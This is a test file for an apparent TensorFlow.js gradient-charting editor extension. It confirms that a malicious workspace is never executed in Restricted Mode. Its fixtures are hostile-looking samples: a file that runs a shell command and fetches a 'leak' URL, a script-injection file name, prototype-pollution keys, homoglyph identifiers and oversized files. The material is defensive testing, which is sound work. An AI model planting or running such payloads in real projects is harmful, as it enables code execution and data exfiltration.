import { describe, expect, it } from 'vitest';
import { useWindow } from './harness/useWindow.js';

const IMPORT = "import * as tf from '@tensorflow/tfjs';\n";
const model = (name: string, activation = 'sigmoid') =>
  `export const ${name} = tf.sequential({ layers: [tf.layers.dense({ units: 4, activation: '${activation}', inputShape: [2] }), tf.layers.dense({ units: 1 })] });\n`;

const strangeName = `it's <script>alert(1) "quoted".ts`;
const files = {
  'README.md': 'Nothing here is run.\n',
  // throws, writes and fetches if anyone runs it
  'trap.ts': `${IMPORT}(globalThis as any).gradientLensWasHere = require('child_process').execSync('touch executed');\nfetch('https://example.org/leak');\n${model('trapped')}`,
  [strangeName]: IMPORT + model('model'),
  'prototype.ts': `${IMPORT}export const polluted = tf.sequential({ layers: [tf.layers.dense(JSON.parse('{}')), tf.layers.dense({ units: 4, inputShape: [2], __proto__: { activation: 'relu' }, constructor: 1, ['__proto__']: { polluted: true } })] });\n`,
  'lookalike.ts': `${IMPORT}const units = 4;\nconst unіts = 100000000;\n${model('mоdel')}${model('model')}export const third = tf.sequential({ layers: [tf.layers.dense({ units, inputShape: [2] }), tf.layers.dense({ units: 1 })] });\n`,
  'thousands.ts': IMPORT + Array.from({ length: 3000 }, (_, index) => model(`model${String(index)}`)).join(''),
  'giant.ts':
    `${IMPORT}${model('model')}// ${'x'.repeat(120)}\n`.repeat(1) +
    `export const text = '${'y'.repeat(100)}';\n`.repeat(60_000),
};

describe('a workspace that means harm, in Restricted Mode', () => {
  const window = useWindow({ files, restricted: true });

  it('is read, checked and never run', async () => {
    await window().open('trap.ts');
    await window().lens('Check gradients').first().click();
    const report = await window().webview('Gradient Report');
    await report.getByRole('heading', { name: /trapped/ }).waitFor();
    await report.locator('.chart svg').first().waitFor();
    expect(() => window().fileText('executed')).toThrow();
  });

  it('shows a file’s name as text, whatever it holds', async () => {
    await window().page.locator('.explorer-folders-view .monaco-list-row', { hasText: 'quoted' }).dblclick();
    await window().page.locator('.monaco-editor.focused[data-uri*="quoted"]').waitFor();
    await window().lens('Check gradients').first().click();
    const report = await window().webview('Gradient Report');
    await report.getByText('<script>alert(1)').first().waitFor();
    await expect(report.locator('main script').count()).resolves.toBe(0);
  });

  it.each(['prototype.ts', 'lookalike.ts', 'thousands.ts', 'giant.ts'])('lives with %s', async (name) => {
    await window().open(name);
    await window()
      .lens(/Check gradients/)
      .first()
      .waitFor({ timeout: 60_000 });
    // the editor still answers at once
    const started = Date.now();
    await window().commands('Gradient Lens');
    expect(Date.now() - started).toBeLessThan(10_000);
  });
});
